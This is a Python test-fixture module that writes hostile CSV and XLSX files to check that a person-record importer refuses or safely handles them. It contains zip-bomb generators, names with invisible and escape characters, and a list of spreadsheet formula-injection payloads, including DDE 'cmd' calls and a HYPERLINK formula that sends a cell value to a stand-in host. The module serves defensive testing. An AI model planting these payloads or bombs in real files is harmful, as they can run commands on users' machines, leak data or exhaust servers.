"""Hostile partner spreadsheets (issue 10), written on demand, never committed.

Files as partners' spreadsheets really come out of Excel, and as an attacker
would build them. Each `make_*` function writes one file into a folder and
returns a `HostileFile`: where it is, which import it is for, and what a
correct importer does with it (`expect`: "refused" or "imported N").

`scale` shrinks the big ones for tests (`scale=0.001`: a few hundred KB in all);
`scale=1` is the size of the issue's reports, for `bench/imports.py`:

    from suivi.interop.tests.hostile_files import build_corpus
    for hostile in build_corpus(folder, scale=1):
        print(hostile.name, hostile.path, hostile.expect)

No Django here (plain Python): the bench's driver generates the corpus once,
then measures other trees with it. The persons' headers are the file format
(`suivi/interop/records/template.py`; `test_hostile_files.py` checks they
still are), and the rows use the demo's organisation `en` and category codes.
Partner ids start with `HB-`, which the demo does not use.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

from suivi.interop.reading.limits import Limits

# What the importer is to enforce (issue 10). The expectations below are
# computed against them, so at a small `scale` a file that is too big at full
# size is expected to import (`csv_too_many_rows` at scale 0.01: 2,500 rows);
# a test that lowers the importer's limit states its own expectation.
_DEFAULTS = Limits()  # the importer's documented defaults (docs/imports.md)
LIMITS = {
    "data_rows": _DEFAULTS.max_rows,
    "physical_lines": _DEFAULTS.max_lines,  # Excel's own maximum number of rows
    "columns": _DEFAULTS.max_columns,
    "cell_chars": _DEFAULTS.max_cell_chars,  # Excel's own maximum length of a cell
}

PERSON_HEADERS = [
    "Identifiant",
    "Prénom",
    "Nom",
    "Sexe",
    "Année de naissance",
    "Nationalité",
    "Catégorie",
    "Ville",
    "Téléphone",
    "Type de pièce",
    "Numéro de pièce",
    "Date d'enregistrement",
    "Date du consentement",
]
PERSONS_SHEET = "Personnes"
# What Excel writes for a row that is formatted but empty, in a CSV.
EMPTY_CSV_LINE = ";" * (len(PERSON_HEADERS) - 1)
GOOD_ROWS = 50

_GIVEN = ["Awa", "Fatou", "Mariam", "Aminata", "Moussa", "Ibrahima", "Yao", "Koffi"]
_NATIONALITIES = ["SN", "CI", "CM", "GN", "ML", "CD", "NG"]
_CATEGORIES = ["regularised", "refugee", "asylum_seeker", "irregular", "student"]
_CITIES = ["Rabat", "Salé", "Casablanca", "Témara"]


@dataclass(frozen=True)
class HostileFile:
    name: str
    path: Path
    kind: str  # the import it is for: "persons" or "events"
    expect: str  # "refused" or "imported N" (N new persons)
    why: str  # what a correct importer does, in a few words
    details: dict[str, int] = field(default_factory=dict)  # sizes, for tests and tables

    @property
    def refused(self) -> bool:
        return self.expect == "refused"

    @property
    def imported(self) -> int | None:
        return int(self.expect.split()[1]) if self.expect.startswith("imported ") else None


def person_row(number: int, **changes: str) -> list[str]:
    """A valid row of the persons' template (partner id `HB-000001`…),
    with `changes` by header key (`given_name`, `nationality`…)."""
    values = {
        "partner_record_id": f"HB-{number:06d}",
        "given_name": _GIVEN[number % len(_GIVEN)],
        "family_name": f"Banc-{number:06d}",
        "sex": "femme" if number % 2 else "homme",
        "birth_year": str(1975 + number % 28),
        "nationality": _NATIONALITIES[number % len(_NATIONALITIES)],
        "category": _CATEGORIES[number % len(_CATEGORIES)],
        "city": _CITIES[number % len(_CITIES)],
        "phone": "",
        "document_type": "",
        "document_number": "",
        "registered_on": f"2020-{1 + number % 12:02d}-{1 + number % 28:02d}",
        "consent_given_on": f"2020-{1 + number % 12:02d}-{1 + number % 28:02d}",
    }
    unknown = set(changes) - set(values)
    if unknown:
        raise KeyError(unknown)
    values.update(changes)
    return list(values.values())


def _scaled(full: int, scale: float, minimum: int = 1) -> int:
    return max(minimum, int(full * scale))


# --- CSV ---------------------------------------------------------------------------


def _write_csv(
    path: Path,
    rows: Iterable[Sequence[str]],
    header: Sequence[str] | None = PERSON_HEADERS,
    tail: Iterable[str] = (),
) -> None:
    """As Excel saves "CSV UTF-8 (semicolon)": a BOM, `;`, CRLF; then the
    raw lines of `tail` (each ended by CRLF)."""
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, delimiter=";", lineterminator="\r\n")
        if header is not None:
            writer.writerow(header)
        writer.writerows(rows)
        for line in tail:
            handle.write(line + "\r\n")


def _good(count: int, start: int = 1) -> Iterator[list[str]]:
    return (person_row(number) for number in range(start, start + count))


def make_csv_trailing_separators(folder: Path, scale: float = 1.0) -> HostileFile:
    """50 good rows, then the formatted empty rows Excel writes as `;;;;…`."""
    blank = _scaled(1_000_000, scale)
    path = folder / "csv_trailing_separators.csv"
    _write_csv(path, _good(GOOD_ROWS), tail=(EMPTY_CSV_LINE for _ in range(blank)))
    refused = 1 + GOOD_ROWS + blank > LIMITS["physical_lines"]
    return HostileFile(
        "csv_trailing_separators",
        path,
        "persons",
        "refused" if refused else f"imported {GOOD_ROWS}",
        "skip the empty lines, import the 50 rows, without an issue per empty cell",
        {"blank_lines": blank},
    )


def make_csv_over_excel_lines(folder: Path, scale: float = 1.0) -> HostileFile:
    """More physical lines than a sheet can hold (1,048,576), empty after 50 rows."""
    blank = _scaled(1_100_000, scale)
    path = folder / "csv_over_excel_lines.csv"
    _write_csv(path, _good(GOOD_ROWS), tail=(EMPTY_CSV_LINE for _ in range(blank)))
    refused = 1 + GOOD_ROWS + blank > LIMITS["physical_lines"]
    return HostileFile(
        "csv_over_excel_lines",
        path,
        "persons",
        "refused" if refused else f"imported {GOOD_ROWS}",
        "refuse early: more lines than Excel allows",
        {"blank_lines": blank},
    )


def make_csv_huge_cell(folder: Path, scale: float = 1.0) -> HostileFile:
    """One cell of 200 KiB (Python's csv refuses fields over 128 KiB)."""
    path = folder / "csv_huge_cell.csv"
    size = 200 * 1024
    rows = [*_good(3), person_row(4, city="A" * size), *_good(3, start=5)]
    _write_csv(path, rows)
    refused = size > LIMITS["cell_chars"]
    return HostileFile(
        "csv_huge_cell",
        path,
        "persons",
        "refused" if refused else "imported 7",
        "refuse: a cell longer than Excel's 32,767 characters (no traceback)",
        {"cell_chars": size},
    )


def make_csv_many_columns(folder: Path, scale: float = 1.0) -> HostileFile:
    """A header of 20,000 columns (the template's 13, then `Colonne14`…)."""
    columns = 20_000
    extra = [f"Colonne{n}" for n in range(len(PERSON_HEADERS) + 1, columns + 1)]
    path = folder / "csv_many_columns.csv"
    rows = ([*row, *([""] * len(extra))] for row in _good(GOOD_ROWS))
    _write_csv(path, rows, header=[*PERSON_HEADERS, *extra])
    return HostileFile(
        "csv_many_columns",
        path,
        "persons",
        "refused" if columns > LIMITS["columns"] else f"imported {GOOD_ROWS}",
        "refuse: more columns than any template has",
        {"columns": columns},
    )


def _valid_persons(folder: Path, name: str, full: int, scale: float, why: str) -> HostileFile:
    count = _scaled(full, scale)
    path = folder / f"{name}.csv"
    _write_csv(path, _good(count))
    refused = count > LIMITS["data_rows"]
    return HostileFile(
        name, path, "persons", "refused" if refused else f"imported {count}", why, {"rows": count}
    )


def make_csv_too_many_rows(folder: Path, scale: float = 1.0) -> HostileFile:
    """250,000 valid persons: over the 200,000 rows a file may hold."""
    return _valid_persons(
        folder, "csv_too_many_rows", 250_000, scale, "refuse early: more than 200,000 rows"
    )


def make_csv_100k_persons(folder: Path, scale: float = 1.0) -> HostileFile:
    """100,000 valid persons (the lock-out bench imports it)."""
    return _valid_persons(
        folder,
        "csv_100k_persons",
        100_000,
        scale,
        "import them while other users' pages keep answering",
    )


def _small_csv(
    folder: Path,
    name: str,
    rows: Iterable[Sequence[str]],
    expect: str,
    why: str,
    tail: Iterable[str] = (),
) -> HostileFile:
    path = folder / f"{name}.csv"
    _write_csv(path, rows, tail=tail)
    return HostileFile(name, path, "persons", expect, why)


def make_duplicate_reference_in_file(folder: Path, scale: float = 1.0) -> HostileFile:
    """Two different people under the same partner id in one file."""
    rows = [*_good(3), person_row(2, given_name="Koffi", family_name="Autre-Personne")]
    return _small_csv(
        folder,
        "duplicate_reference_in_file",
        rows,
        "refused",
        "refuse: HB-000002 names two different people (the second was dropped silently)",
    )


def make_date_with_suffix(folder: Path, scale: float = 1.0) -> HostileFile:
    """`2020-12-3155`: the old reader kept its first ten characters."""
    rows = [*_good(2), person_row(3, registered_on="2020-12-3155")]
    return _small_csv(
        folder,
        "date_with_suffix",
        rows,
        "refused",
        "refuse the date (it was stored as 2020-12-31)",
    )


def make_empty_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    path = folder / "empty_csv.csv"
    path.write_bytes(b"")
    return HostileFile("empty_csv", path, "persons", "refused", "refuse: the file is empty")


def make_header_only_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    return _small_csv(
        folder, "header_only_csv", [], "refused", "refuse: no rows (not a success with 0 records)"
    )


def make_blank_rows_only_csv(folder: Path, scale: float = 1.0) -> HostileFile:
    blank = _scaled(1_000, scale)
    return _small_csv(
        folder,
        "blank_rows_only_csv",
        [],
        "refused",
        "refuse: no rows once the empty lines are skipped",
        tail=[EMPTY_CSV_LINE] * blank,
    )


def make_control_characters_names(folder: Path, scale: float = 1.0) -> HostileFile:
    """Names holding a right-to-left override, a bell and a zero-width space."""
    rows = [
        *_good(2),
        person_row(3, given_name="Awa\u202egnp.exe"),
        person_row(4, family_name="Fic\x07tif"),
        person_row(5, given_name="\u200bMariam", city="Rabat\x1b[31m"),
    ]
    return _small_csv(
        folder,
        "control_characters_names",
        rows,
        "refused",
        "refuse the control and invisible characters, row by row",
    )


def make_nationality_garbage(folder: Path, scale: float = 1.0) -> HostileFile:
    rows = [*_good(2), person_row(3, nationality="<>"), person_row(4, nationality="1;")]
    return _small_csv(
        folder,
        "nationality_garbage",
        rows,
        "refused",
        "refuse a nationality that is not two letters",
    )


FORMULAS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A2,"Voir le dossier")',
    "=1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33612345678+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def make_formula_names(folder: Path, scale: float = 1.0) -> HostileFile:
    """Names and a city that a spreadsheet would run as formulas."""
    rows = [*_good(2)]
    for offset, formula in enumerate(FORMULAS):
        number = 3 + offset
        change = "city" if offset == len(FORMULAS) - 1 else "given_name"
        rows.append(person_row(number, **{change: formula}))
    return _small_csv(
        folder,
        "formula_names",
        rows,
        f"imported {len(rows)}",
        "keep them as text (a name may start with '-'), and never write them back as a "
        "live formula: every export quotes them (docs/imports.md)",
    )


# --- XLSX, written by hand (streamed: openpyxl would take minutes) -------------------

from suivi.interop.tests.hostile_xlsx import (  # noqa: E402
    _MAIN,
    _REL,
    _excel_values,
    _persons_sheet,
    _zip_details,
    row_xml,
    sheet_writer,
    write_xlsx,
)


def make_xlsx_formatted_empty_rows(folder: Path, scale: float = 1.0) -> HostileFile:
    """50 good rows, then the empty rows Excel keeps when a whole column was
    formatted: `<row r="…" spans="1:13" s="1" customFormat="1" ht="15"/>`."""
    blank = _scaled(1_000_000, scale)
    last = 1 + GOOD_ROWS + blank

    def rows() -> Iterator[str]:
        yield row_xml(1, PERSON_HEADERS)
        for number in range(1, GOOD_ROWS + 1):
            yield row_xml(number + 1, _excel_values(person_row(number)))
        for number in range(GOOD_ROWS + 2, last + 1):
            yield f'<row r="{number}" spans="1:13" s="1" customFormat="1" ht="15"/>'

    path = folder / "xlsx_formatted_empty_rows.xlsx"
    write_xlsx(path, _persons_sheet(rows(), last))
    refused = last > LIMITS["physical_lines"]
    return HostileFile(
        "xlsx_formatted_empty_rows",
        path,
        "persons",
        "refused" if refused else f"imported {GOOD_ROWS}",
        "skip the empty rows quickly, import the 50 rows",
        {"blank_rows": blank, **_zip_details(path)},
    )


def _repeated(entry: IO[bytes], total: int, byte: bytes = b"0") -> None:
    chunk = byte * (1 << 20)
    left = total
    while left > 0:
        entry.write(chunk[: min(left, len(chunk))])
        left -= len(chunk)


def make_xlsx_zip_bomb(folder: Path, scale: float = 1.0) -> HostileFile:
    """About 0.5 MB that inflates to ~500 MB: a shared string of 500 MB of
    zeros, which the first row's `Prénom` cell refers to."""
    size = _scaled(500 * 1024 * 1024, scale, minimum=1 << 20)

    def strings(entry: IO[bytes]) -> None:
        entry.write(
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<sst xmlns="{_MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
        )
        _repeated(entry, size)
        entry.write(b"</t></si></sst>")

    first = person_row(1)
    inline = f'<c r="B2" t="inlineStr"><is><t>{first[1]}</t></is></c>'
    cells = row_xml(2, _excel_values(first))
    assert inline in cells
    cells = cells.replace(inline, '<c r="B2" t="s"><v>0</v></c>')
    path = folder / "xlsx_zip_bomb.xlsx"
    write_xlsx(path, _persons_sheet([row_xml(1, PERSON_HEADERS), cells], 2), strings)
    return HostileFile(
        "xlsx_zip_bomb",
        path,
        "persons",
        "refused",
        "refuse from the zip's entries, before parsing (size and ratio)",
        {"string_bytes": size, **_zip_details(path)},
    )


def make_xlsx_bomb_3mb(folder: Path, scale: float = 1.0) -> HostileFile:
    """About 3 MB that inflates to ~3 GiB: one inline cell of zeros in the sheet."""
    size = _scaled(3 * 1024 * 1024 * 1024, scale, minimum=1 << 20)

    def sheet(entry: IO[bytes]) -> None:
        entry.write(
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<worksheet xmlns="{_MAIN}" xmlns:r="{_REL}"><dimension ref="A1:M2"/>'
            f"<sheetData>{row_xml(1, PERSON_HEADERS)}"
            f'<row r="2"><c r="A2" t="inlineStr"><is><t>'.encode()
        )
        _repeated(entry, size)
        entry.write(b"</t></is></c></row></sheetData></worksheet>")

    path = folder / "xlsx_bomb_3mb.xlsx"
    write_xlsx(path, [(PERSONS_SHEET, sheet)])
    return HostileFile(
        "xlsx_bomb_3mb",
        path,
        "persons",
        "refused",
        "refuse from the zip's entries, before parsing (size and ratio)",
        {"cell_bytes": size, **_zip_details(path)},
    )


def make_workbook_sheet_renamed_not_first(folder: Path, scale: float = 1.0) -> HostileFile:
    """A one-line note first, then the data under another title than `Personnes`
    (the old reader took the first sheet: its line as headers, no rows, success)."""
    notes = [row_xml(1, ["Fichier de la permanence de Rabat, mis à jour le 3 mars"])]
    data = [row_xml(1, PERSON_HEADERS)]
    data += [row_xml(n + 1, _excel_values(person_row(n))) for n in range(1, 6)]
    path = folder / "workbook_sheet_renamed_not_first.xlsx"
    write_xlsx(path, [("Lisez-moi", sheet_writer(notes, 1, 1)), ("Feuil2", sheet_writer(data, 6))])
    return HostileFile(
        "workbook_sheet_renamed_not_first",
        path,
        "persons",
        "imported 5",
        "find the sheet that has the template's columns (it 'succeeded' with 0 records); "
        "refusing, naming the sheets, would do too",
        _zip_details(path),
    )


# --- The corpus ---------------------------------------------------------------------

MAKERS: dict[str, Callable[[Path, float], HostileFile]] = {
    "csv_trailing_separators": make_csv_trailing_separators,
    "csv_over_excel_lines": make_csv_over_excel_lines,
    "xlsx_formatted_empty_rows": make_xlsx_formatted_empty_rows,
    "xlsx_zip_bomb": make_xlsx_zip_bomb,
    "xlsx_bomb_3mb": make_xlsx_bomb_3mb,
    "csv_huge_cell": make_csv_huge_cell,
    "csv_many_columns": make_csv_many_columns,
    "csv_too_many_rows": make_csv_too_many_rows,
    "csv_100k_persons": make_csv_100k_persons,
    "duplicate_reference_in_file": make_duplicate_reference_in_file,
    "date_with_suffix": make_date_with_suffix,
    "workbook_sheet_renamed_not_first": make_workbook_sheet_renamed_not_first,
    "empty_csv": make_empty_csv,
    "header_only_csv": make_header_only_csv,
    "blank_rows_only_csv": make_blank_rows_only_csv,
    "control_characters_names": make_control_characters_names,
    "nationality_garbage": make_nationality_garbage,
    "formula_names": make_formula_names,
}


def build_corpus(
    folder: Path, scale: float = 1.0, only: Iterable[str] | None = None
) -> list[HostileFile]:
    """Write every hostile file (or those named in `only`) into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    names = list(MAKERS) if only is None else list(only)
    unknown = set(names) - set(MAKERS)
    if unknown:
        raise KeyError(f"no hostile file named {', '.join(sorted(unknown))}")
    return [MAKERS[name](folder, scale) for name in names]


def csv_text(rows: Iterable[Sequence[str]], header: Sequence[str] = PERSON_HEADERS) -> bytes:
    """A small CSV as Excel saves it, in memory (for tests that need one more)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8-sig")
